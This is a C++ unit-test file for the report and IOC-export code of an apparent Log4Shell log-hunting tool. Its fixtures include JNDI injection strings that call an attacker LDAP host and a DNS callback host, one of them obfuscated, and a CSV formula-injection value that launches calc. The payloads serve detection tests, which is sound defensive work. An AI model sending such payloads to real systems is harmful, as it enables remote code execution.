#include "hunt/hunt_report.h"

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <set>
#include <sstream>

namespace l4s::hunt {
namespace {

using nlohmann::json;

Detection Make(const std::string& line, const std::string& ts, const std::string& ip) {
  std::optional<Detection> d = ExamineLine(line);
  EXPECT_TRUE(d.has_value()) << line;
  d->file = "/var/log/x.log";
  d->line = 7;
  d->offset = 100;
  d->timestamp = ts;
  d->timestamp_raw = ts;
  d->source_ip = ip;
  return *d;
}

HuntReport Sample() {
  HuntReport r;
  r.tool_version = "0.1.0";
  r.host = "h";
  r.started = "2026-01-01T00:00:00Z";
  r.finished = "2026-01-01T00:00:01Z";
  r.roots = {"/var/log"};
  r.detections.push_back(Make("${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/aWQ=}",
                              "2021-12-11T10:00:00Z", "45.155.205.233"));
  r.detections.push_back(Make("${${lower:j}ndi:dns://cb.example.net/x}", "2021-12-12T10:00:00Z", "192.0.2.1"));
  r.detections.push_back(Make("${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/aWQ=}",
                              "2021-12-10T10:00:00Z", "45.155.205.233"));
  r.errors.push_back({"/var/log/bad.gz", "gzip: truncated data"});
  r.stats.files = 2;
  return r;
}

TEST(HuntReport, SummaryCountsAndOrders) {
  HuntSummary s = Summarize(Sample());
  EXPECT_EQ(s.attempts, 3u);
  EXPECT_EQ(s.first_seen, "2021-12-10T10:00:00Z");
  EXPECT_EQ(s.last_seen, "2021-12-12T10:00:00Z");
  ASSERT_EQ(s.top_source_ips.size(), 2u);
  EXPECT_EQ(s.top_source_ips[0], std::make_pair(std::string("45.155.205.233"), uint64_t{2}));
  ASSERT_EQ(s.top_callback_hosts.size(), 2u);
  EXPECT_EQ(s.top_callback_hosts[0].first, "45.155.205.233");
  EXPECT_EQ(s.top_callback_hosts[1].first, "cb.example.net");
}

TEST(HuntReport, JsonSchema) {
  std::ostringstream out;
  WriteHunt(Sample(), HuntFormat::kJson, out);
  json j = json::parse(out.str());
  ASSERT_EQ(j["detections"].size(), 3u);
  const json& d = j["detections"][0];
  for (const char* key : {"file", "line", "offset", "timestamp", "source_ip", "raw", "layers", "resolved", "jndi",
                          "techniques", "exfiltrates", "decoded_command", "verdict", "severity"})
    EXPECT_TRUE(d.contains(key)) << key;
  EXPECT_EQ(d["jndi"]["name"], "ldap://45.155.205.233:12344/Basic/Command/Base64/aWQ=");
  EXPECT_EQ(d["jndi"]["host"], "45.155.205.233");
  EXPECT_EQ(d["jndi"]["port"], 12344);
  EXPECT_EQ(d["jndi"]["scheme"], "ldap");
  EXPECT_EQ(d["decoded_command"], "id");
  EXPECT_EQ(d["verdict"], "reaches_jndi_2.14");
  EXPECT_EQ(j["detections"][1]["techniques"][0], "nested_lookup");
  EXPECT_EQ(j["errors"][0]["file"], "/var/log/bad.gz");
  EXPECT_EQ(j["summary"]["attempts"], 3);
}

// The json document is streamed member by member; it must still read as
// the one nlohmann would print for the same values, empty lists included.
TEST(HuntReport, StreamedJsonIsLaidOutAsOneDocument) {
  for (bool empty : {false, true}) {
    HuntReport r = Sample();
    if (empty) {
      r.detections.clear();
      r.errors.clear();
    } else {
      r.detections[0].raw += std::string("\xff\x01\"\\", 4);  // invalid UTF-8, a control byte, escapes
    }
    std::ostringstream out;
    WriteHunt(r, HuntFormat::kJson, out);
    nlohmann::ordered_json j = nlohmann::ordered_json::parse(out.str());
    EXPECT_EQ(out.str(), j.dump(2, ' ', false, nlohmann::ordered_json::error_handler_t::replace) + "\n");
    EXPECT_EQ(j["detections"].size(), empty ? 0u : 3u);
  }
}

TEST(HuntReport, TalliesMergeAsOne) {
  HuntReport r = Sample();
  HuntTally whole, first, second;
  for (size_t i = 0; i < r.detections.size(); ++i) {
    whole.Add(r.detections[i]);
    (i == 0 ? first : second).Add(r.detections[i]);
  }
  first.Merge(second);
  HuntSummary a = whole.Summary(), b = first.Summary();
  EXPECT_EQ(a.attempts, b.attempts);
  EXPECT_EQ(a.first_seen, b.first_seen);
  EXPECT_EQ(a.last_seen, b.last_seen);
  EXPECT_EQ(a.top_source_ips, b.top_source_ips);
  EXPECT_EQ(a.top_callback_hosts, b.top_callback_hosts);
  EXPECT_EQ(a.verdicts, b.verdicts);
  std::vector<Ioc> x = whole.Iocs(), y = first.Iocs();
  ASSERT_EQ(x.size(), y.size());
  for (size_t i = 0; i < x.size(); ++i) {
    EXPECT_EQ(x[i].value, y[i].value);
    EXPECT_EQ(x[i].count, y[i].count);
    EXPECT_EQ(x[i].first_seen, y[i].first_seen);
    EXPECT_EQ(x[i].last_seen, y[i].last_seen);
  }
  EXPECT_TRUE(HuntTally(/*keep_iocs=*/false).Iocs().empty());
}

TEST(HuntReport, JsonlTypesAndInvalidUtf8) {
  HuntReport r = Sample();
  r.detections[0].raw += std::string("\xff\x00tail", 6);
  std::ostringstream out;
  WriteHunt(r, HuntFormat::kJsonl, out);
  std::istringstream in(out.str());
  std::string line;
  std::vector<std::string> types;
  while (std::getline(in, line)) types.push_back(json::parse(line)["type"]);
  EXPECT_EQ(types, (std::vector<std::string>{"detection", "detection", "detection", "error", "summary"}));
}

TEST(HuntReport, CsvQuotesAndNeutralisesFormulas) {
  HuntReport r = Sample();
  r.detections[0].file = "=cmd|' /C calc'!A0,x";
  std::ostringstream out;
  WriteHunt(r, HuntFormat::kCsv, out);
  std::string s = out.str();
  EXPECT_EQ(s.substr(0, s.find('\n')),
            "file,line,offset,timestamp,source_ip,forwarded_for,verdict,severity,jndi_name,scheme,host,port,path,"
            "decoded_command,exfiltrates,techniques,layers,raw");
  EXPECT_NE(s.find("\"'=cmd|' /C calc'!A0,x\""), std::string::npos) << s;
}

TEST(HuntReport, IocsAggregate) {
  std::vector<Ioc> iocs = CollectIocs(Sample());
  std::map<std::string, Ioc> by;
  for (const Ioc& i : iocs) by[i.type + " " + i.value] = i;
  ASSERT_TRUE(by.count("ipv4 45.155.205.233"));
  EXPECT_EQ(by["ipv4 45.155.205.233"].count, 2u);
  EXPECT_EQ(by["ipv4 45.155.205.233"].port, 12344);
  EXPECT_EQ(by["ipv4 45.155.205.233"].first_seen, "2021-12-10T10:00:00Z");
  EXPECT_EQ(by["ipv4 45.155.205.233"].last_seen, "2021-12-11T10:00:00Z");
  EXPECT_TRUE(by.count("domain cb.example.net"));
  EXPECT_EQ(by["domain cb.example.net"].port, -1);
  EXPECT_TRUE(by.count("url dns://cb.example.net/x"));
  EXPECT_TRUE(by.count("command id"));
  EXPECT_TRUE(by.count("source-ip 192.0.2.1"));
}

TEST(HuntReport, StixBundleIsStableAndLinked) {
  std::ostringstream a, b;
  HuntReport r = Sample();
  WriteIocs(IocFormat::kStix, CollectIocs(r), r.finished, a);
  r.finished = "2027-01-01T00:00:00Z";  // a later re-export
  WriteIocs(IocFormat::kStix, CollectIocs(r), r.finished, b);
  json ja = json::parse(a.str()), jb = json::parse(b.str());
  EXPECT_EQ(ja["type"], "bundle");
  EXPECT_EQ(ja["id"], jb["id"]);
  std::set<std::string> ids;
  std::map<std::string, int> types;
  std::string vuln;
  for (const json& o : ja["objects"]) {
    EXPECT_TRUE(ids.insert(o["id"].get<std::string>()).second) << o["id"];
    EXPECT_EQ(o["id"].get<std::string>().rfind(o["type"].get<std::string>() + "--", 0), 0u);
    EXPECT_EQ(o["spec_version"], "2.1");
    types[o["type"]]++;
    if (o["type"] == "vulnerability") {
      vuln = o["id"];
      EXPECT_EQ(o["external_references"][0]["external_id"], "CVE-2021-44228");
    }
  }
  EXPECT_EQ(types["vulnerability"], 1);
  EXPECT_EQ(types["identity"], 1);
  // url x2, ipv4 with port, domain.
  EXPECT_EQ(types["indicator"], 4);
  EXPECT_EQ(types["sighting"], 4);
  EXPECT_EQ(types["relationship"], 4);
  for (const json& o : ja["objects"]) {
    if (o["type"] == "relationship") {
      EXPECT_TRUE(ids.count(o["source_ref"]));
      EXPECT_EQ(o["target_ref"], vuln);
    }
    if (o["type"] == "sighting") {
      EXPECT_TRUE(ids.count(o["sighting_of_ref"]));
    }
    if (o["type"] == "indicator" &&
        o["pattern"] == "[network-traffic:dst_ref.value = '45.155.205.233' AND network-traffic:dst_port = 12344]") {
      EXPECT_EQ(o["valid_from"], "2021-12-10T10:00:00Z");
    }
  }
}

TEST(HuntReport, MispCsvRows) {
  std::ostringstream out;
  WriteIocs(IocFormat::kMispCsv, CollectIocs(Sample()), "2026-01-01T00:00:00Z", out);
  std::string s = out.str();
  EXPECT_EQ(s.rfind("uuid,event_id,category,type,value,comment,to_ids,date,", 0), 0u);
  EXPECT_NE(s.find(",Network activity,ip-dst|port,45.155.205.233|12344,"), std::string::npos) << s;
  EXPECT_NE(s.find(",vulnerability,CVE-2021-44228,"), std::string::npos) << s;
  EXPECT_NE(s.find(",domain,cb.example.net,"), std::string::npos) << s;
}

TEST(HuntReport, Uuid5IsRfc4122Version5) {
  std::string u = Uuid5("x");
  EXPECT_EQ(u.size(), 36u);
  EXPECT_EQ(u[14], '5');
  EXPECT_NE(std::string("89ab").find(u[19]), std::string::npos);
  EXPECT_EQ(u, Uuid5("x"));
  EXPECT_NE(u, Uuid5("y"));
}

}  // namespace
}  // namespace l4s::hunt
